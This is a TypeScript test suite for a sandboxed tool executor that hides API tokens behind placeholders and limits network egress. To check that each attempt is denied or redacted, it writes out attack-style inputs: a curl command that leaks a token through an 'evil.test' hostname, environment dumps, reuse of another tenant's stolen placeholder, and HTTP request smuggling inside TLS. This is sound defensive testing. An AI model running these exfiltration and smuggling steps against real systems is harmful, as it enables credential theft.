import { createHash } from 'node:crypto'
import { readFileSync } from 'node:fs'
import { createServer as createPlainServer, type IncomingMessage, type ServerResponse } from 'node:http'
import { createServer } from 'node:https'
import { join } from 'node:path'
import { text } from 'node:stream/consumers'
import type { ExecutorOptions } from '@toolyard/executors'
import t, { type Test } from 'tap'
import { leavesLoopFree } from '../event-loop/longest-turn.ts'
import { outputOf } from '../executors/fixture.ts'
import { makeCertificates } from '../support/certificates.ts'
import { waitFor } from '../support/condition.ts'
import { listening } from '../support/listening.ts'
import { boxedPython } from './boxed-python.ts'
import { boxedTools, withoutBox, type BoxedRun, type BoxedTools } from './boxed-tools.ts'

const skip = await withoutBox()
const certificates = t.testdir()
makeCertificates(certificates, 'api', 'DNS:api.test,DNS:other.test,DNS:public.test')
const placeholder = /tyd_placeholder_[0-9a-f]{32}/
const valueOf = (tenant: string | undefined): string => `token-of-${tenant ?? 'operator'}-0123456789`

interface Seen {
  host: string | undefined
  authorization: string | undefined
  url: string | undefined
  body: string
}

interface Place {
  means: Pick<ExecutorOptions, 'http' | 'secrets'>
  tools: BoxedTools
  /** Of the API over TLS, and in the clear. */
  port: number
  plainPort: number
  seen: Seen[]
  /** Runs a script of a tool that has `TOKEN` for the API. */
  shell: (script: string, run?: Partial<BoxedRun>) => ReturnType<BoxedTools['shell']>
  /** Answers the requests that wait at `/hold`. */
  release: () => void
}

async function place (t: Test): Promise<Place> {
  const seen: Seen[] = []
  const held: ServerResponse[] = []
  const answer = async (request: IncomingMessage, response: ServerResponse): Promise<void> => {
    const { headers: { host, authorization }, url } = request
    seen.push({ host, authorization, url, body: await text(request) })
    if (url?.startsWith('/hold') === true) held.push(response)
    // git asks without its user at first.
    else if (url?.startsWith('/repo.git') === true && authorization === undefined) response.writeHead(401, { 'www-authenticate': 'Basic realm="x"' }).end()
    else if (url?.startsWith('/repo.git') === true) response.end(`${'1'.repeat(40)}\trefs/heads/main\n`)
    else if (url === '/echo') response.writeHead(200, { 'x-you': authorization, [`x-${authorization?.replace('Bearer ', '')}`]: 'you' }).end(`you are ${authorization}`)
    else response.end('done')
  }
  const [cert, key, ca] = ['api.pem', 'api.key', 'ca.pem'].map(name => readFileSync(join(certificates, name), 'utf8'))
  const listener = (request: IncomingMessage, response: ServerResponse): void => { void answer(request, response) }
  const servers = [createServer({ cert, key }, listener), createPlainServer(listener)]
  const [port = 0, plainPort = 0] = await Promise.all(servers.map(async server => {
    return await listening(t, server)
  }))
  const means = {
    http: {
      privateHosts: ['api.test', 'other.test'],
      lookup: (_host, _options, callback) => { callback(null, [{ address: '127.0.0.1', family: 4 }]) },
      authorities: [ca ?? '']
    },
    secrets: { open: async (_names, { tenant }) => await Promise.resolve(new Map([['api', valueOf(tenant)]])) }
  } satisfies Place['means']
  const tools = await boxedTools(t, means)
  const network = ['api.test', 'other.test', 'public.test'].flatMap(host => [`${host}:${port}`, `${host}:${plainPort}`])
  const hosts = network.filter(host => !host.startsWith('other'))
  return {
    means,
    tools,
    port,
    plainPort,
    seen,
    shell: async (script, run) => await tools.shell(script, { network, uses: { TOKEN: { secret: 'api', as: 'header', hosts } }, ...run }),
    release: () => { for (const response of held.splice(0)) response.end('done') }
  }
}

const bearer = '-H "authorization: Bearer $TOKEN"'

void t.test('curl, git, Python and fetch send a token by a header that none of them has', { skip }, async t => {
  const { tools, port, seen, shell } = await place(t)
  const url = `https://api.test:${port}`
  const script = `fetch("${url}/node", { headers: { authorization: "token " + process.env.TOKEN } }).then(r => r.text()).then(console.log)`
  const python = `import os, urllib.request as r; print(r.urlopen(r.Request("${url}/python", headers={"Authorization": "Bearer " + os.environ["TOKEN"]})).read())`
  const ended = await shell([
    `curl -sS ${bearer} ${url}/curl`, `curl -sS -u "user:$TOKEN" ${url}/basic`, `curl -sS --noproxy '*' ${bearer} ${url}/direct`,
    `curl -sS -x "$TOOLYARD_SOCKS_PROXY" ${bearer} ${url}/socks`, `curl -sSi ${bearer} ${url}/echo`, `git ls-remote "https://user:$TOKEN@api.test:${port}/repo.git"`,
    `/usr/bin/env python3 -c '${python}'`, `${process.execPath} -e '${script}'`, 'env', 'cat /proc/self/environ'
  ].join('; '))
  const output = String(outputOf(ended))
  const value = valueOf(undefined)
  t.strictSame(Object.fromEntries(seen.map(({ url = '', authorization }) => [url, authorization])), {
    '/curl': `Bearer ${value}`,
    '/basic': `Basic ${Buffer.from(`user:${value}`).toString('base64')}`,
    '/direct': `Bearer ${value}`,
    '/socks': `Bearer ${value}`,
    '/echo': `Bearer ${value}`,
    '/repo.git/info/refs?service=git-upload-pack': `Basic ${Buffer.from(`user:${value}`).toString('base64')}`,
    '/repo.git/HEAD': `Basic ${Buffer.from(`user:${value}`).toString('base64')}`,
    '/python': `Bearer ${value}`,
    '/node': `token ${value}`
  }, output)
  t.match(output, /1{40}\s+refs\/heads\/main/)
  t.match(output, /TOKEN=tyd_placeholder_[0-9a-f]{32}\n/)
  t.match(output, `you are Bearer ${'*'.repeat(value.length)}`, 'what the host repeats is hidden from the program')
  t.match(output, `x-${'*'.repeat(value.length)}: you`, 'in the name of a header too')
  t.notOk(output.includes(value))
  t.notOk(tools.logged.some(line => line.includes(value)))
})

void t.test('a placeholder stays what it is in a body, in a query, at another host, whose tunnel nobody opens, and over http at a public host', { skip }, async t => {
  const { port, plainPort, seen, shell } = await place(t)
  const ended = await shell([
    `curl -sS -d "$TOKEN" 'https://api.test:${port}/?q='"$TOKEN" -o /dev/null`,
    `curl -sS ${bearer} https://other.test:${port}/ -o /dev/null 2>/dev/null; echo "other $?"`,
    `curl -sSk ${bearer} https://other.test:${port}/other -o /dev/null`,
    `curl -sS ${bearer} http://api.test:${plainPort}/plain -o /dev/null`,
    `curl -sS ${bearer} http://public.test:${plainPort}/`
  ].join('; '))
  t.match(outputOf(ended), new RegExp(`^other 60\negress: denied public.test:${plainPort}: its requests carry a secret`), 'the certificate of the other host is its own')
  const [first, other, plain, ...rest] = seen
  t.match(first, { url: placeholder, body: placeholder })
  t.match(other, { url: '/other', authorization: placeholder })
  t.match(plain, { url: '/plain', authorization: `Bearer ${valueOf(undefined)}` }, 'a host that may be inside')
  t.strictSame(rest, [])
})

void t.test('tenants send their own tokens; a placeholder of another tenant, another tool, or an ended call is worth nothing', { skip }, async t => {
  const { port, seen, shell, release, tools } = await place(t)
  const url = `https://api.test:${port}`
  const first = shell(`curl -sS ${bearer} "${url}/hold?$TOKEN"`, { tenant: 'one' })
  const taken = await waitFor('the request has come', () => seen[0])
  const [stolen = ''] = placeholder.exec(taken.url ?? '') ?? []
  t.equal(taken.authorization, `Bearer ${valueOf('one')}`)
  const steal = `curl -sSk -H "authorization: Bearer ${stolen}" ${url}/stolen`
  outputOf(await shell(`curl -sS ${bearer} ${url}/own; ${steal}`, { tenant: 'two' }))
  outputOf(await tools.shell(steal, { tenant: 'one', network: [`api.test:${port}`] }))
  release()
  outputOf(await first)
  outputOf(await shell(steal, { tenant: 'one' }))
  t.strictSame(seen.slice(1).map(({ authorization }) => authorization), [valueOf('two'), stolen, stolen, stolen].map(token => `Bearer ${token}`))
})

void t.test('each request inside TLS is judged by itself, and none is smuggled behind another', { skip }, async t => {
  const { port, seen, shell } = await place(t)
  const raw = async (requests: string): Promise<string> => {
    const script = `const s = require("tls").connect({ port: ${port}, host: "api.test", servername: "api.test" }, () => s.write(${JSON.stringify(requests)}.replaceAll("TOKEN", process.env.TOKEN))); s.on("data", d => process.stdout.write(d)); s.on("close", () => process.exit()); setTimeout(() => process.exit(), 2000)`
    return String(outputOf(await shell(`exec ${process.execPath} -e '${script}'`)))
  }
  const own = `Host: api.test:${port}\r\nAuthorization: TOKEN\r\n`
  t.match(await raw(`GET /a HTTP/1.1\r\n${own}\r\nGET /b HTTP/1.1\r\nHost: other.test:${port}\r\nAuthorization: TOKEN\r\n\r\n`), /200 OK[^]*403 Forbidden/)
  t.match(await raw(`GET https://other.test:${port}/c HTTP/1.1\r\n${own}\r\n`), /^HTTP\/1\.1 403 /)
  t.match(await raw(`POST /d HTTP/1.1\r\n${own}Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /e HTTP/1.1\r\n${own}\r\n`), /^HTTP\/1\.1 400 /)
  t.strictSame(seen.map(({ url }) => url), ['/a'])
})

void t.test('a program that guesses how a secret begins does not hear that it does', { skip }, async t => {
  const { shell } = await place(t)
  const value = valueOf(undefined)
  const guess = value.slice(0, -1)
  t.match(await shell(`echo '${guess}' >&2; echo 'of ${value}' >&2; exit 1`), { ok: false, error: { message: new RegExp(`${guess}\\nof \\*{3}REDACTED`) } })
})

void t.test('promise 10: TLS that a program begins on many connections at once, to as many hosts, holds up no worker', { skip }, async t => {
  const { port, shell } = await place(t)
  const network = [`*.api.test:${port}`]
  let run = 0
  await leavesLoopFree(t, 'TLS to 200 hosts', async () => {
    const script = `import base64, os, socket, ssl, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
token = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
context = ssl._create_unverified_context()
made = []
for n in range(200):
    name, hello = f"h{n}.r${run++}.api.test", ssl.MemoryBIO()
    try:
        context.wrap_bio(ssl.MemoryBIO(), hello, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    made.append((socket.create_connection((proxy.hostname, proxy.port)), hello.read()))
    made[n][0].sendall(f"CONNECT {name}:${port} HTTP/1.1\\r\\nhost: {name}\\r\\nproxy-authorization: Basic {token}\\r\\n\\r\\n".encode())
    made[n][0].recv(4096)
for connection, hello in made:
    connection.sendall(hello)
print(sum(len(connection.recv(1)) for connection, _ in made))`
    const ended = await shell(`/usr/bin/env python3 - <<'END'\n${script}\nEND`, { network, uses: { TOKEN: { secret: 'api', as: 'header', hosts: network } } })
    t.equal(outputOf(ended), 200)
  })
})

void t.test('a program that trusts other authorities fails, and the call says why', { skip }, async t => {
  const { port, seen, shell } = await place(t)
  const url = `https://api.test:${port}/`
  const line = new RegExp(`^egress: denied api\\.test:${port}: the program does not take the certificate`)
  t.match(await shell(`unset SSL_CERT_FILE CURL_CA_BUNDLE; exec curl -sS ${url}`), { ok: false, error: { details: { egress: [line] } } })
  t.match(await shell(`unset NODE_EXTRA_CA_CERTS; exec ${process.execPath} -e 'fetch("${url}").catch(() => { process.exitCode = 1 })'`), { ok: false, error: { details: { egress: [line] } } })
  t.strictSame(seen, [])
})

const digest = createHash('sha256').update(valueOf(undefined)).digest('hex')

void t.test('a secret in a file is read by the processes of the call, again and again, and is in no variable and no output', { skip }, async t => {
  const { tools } = await place(t)
  const script = 'sha256sum < "$FILE"; sh -c \'sha256sum < "$FILE"; cat "$FILE"\'; env'
  const output = String(outputOf(await tools.shell(script, { uses: { FILE: { secret: 'api', as: 'file' } } })))
  t.equal(output.split(digest).length - 1, 2)
  t.match(output, /\*\*\*REDACTED\*\*\*/)
  t.notOk(output.includes(valueOf(undefined)))
})

void t.test('a secret in the name of a host that a program asks for is in no log, audit and error, as it is and in small letters', { skip }, async t => {
  const entries: string[] = []
  const audit = { record: (entry: object) => { entries.push(JSON.stringify(entry)) }, flush: async () => { await Promise.resolve() } }
  for (const value of ['abcdefgh-0123456789', 'AbCdEfGh-0123456789']) {
    const tools = await boxedTools(t, { audit, secrets: { open: async () => await Promise.resolve(new Map([['api', value]])) } })
    const run = { network: ['api.test'], uses: { TOKEN: { secret: 'api', as: 'env' } } } as const
    const ended = await tools.shell('curl -s -o /dev/null "http://$TOKEN.evil.test/"; exit 1', run)
    t.match(ended, { ok: false, error: { details: { egress: ['egress: denied ***REDACTED***.evil.test:80, add it to "network"'] } } })
    for (const said of [JSON.stringify(ended), ...tools.logged, ...entries]) t.notMatch(said.toLowerCase(), value.toLowerCase())
    t.match(entries.splice(0).join(), '"egress":{"host":"***REDACTED***.evil.test"')
  }
})

void t.test('a value that no variable can carry is told of by the name of its secret, and a file takes it', { skip }, async t => {
  for (const value of ['begins\0ends-0123456789', '\u20ac'.repeat(60_000)]) {
    const tools = await boxedTools(t, { secrets: { open: async () => await Promise.resolve(new Map([['api', value]])) } })
    t.match(await tools.shell('true', { uses: { TOKEN: { secret: 'api', as: 'env' } } }), { ok: false, error: { code: 'TOOL_UNAVAILABLE', message: /^the secret api holds what no variable can carry: a NUL/ } })
    const sum = createHash('sha256').update(value).digest('hex')
    t.match(outputOf(await tools.shell('sha256sum < "$FILE"', { uses: { FILE: { secret: 'api', as: 'file' } } })), sum)
  }
})

void t.test('Python tools have placeholders and files of secrets in their inner boxes', { skip }, async t => {
  const { means, port, seen } = await place(t)
  const python = await boxedPython(t, means)
  const body = `import hashlib, urllib.request as r
r.urlopen(r.Request("https://api.test:${port}/nest", headers={"Authorization": os.environ["TOKEN"]})).read()
digests = [hashlib.sha256(open(os.environ["FILE"], "rb").read()).hexdigest() for _ in range(2)]
return digests + [subprocess.check_output(["sha256sum", os.environ["FILE"]], text=True).split()[0], os.environ["TOKEN"]]`
  const uses = { TOKEN: { secret: 'api', as: 'header', hosts: [`api.test:${port}`] }, FILE: { secret: 'api', as: 'file' } } as const
  t.match(await python.execute('uses', body, { network: [`api.test:${port}`], uses }), { ok: true, output: [digest, digest, digest, placeholder] })
  t.match(seen, [{ url: '/nest', authorization: valueOf(undefined) }])
})
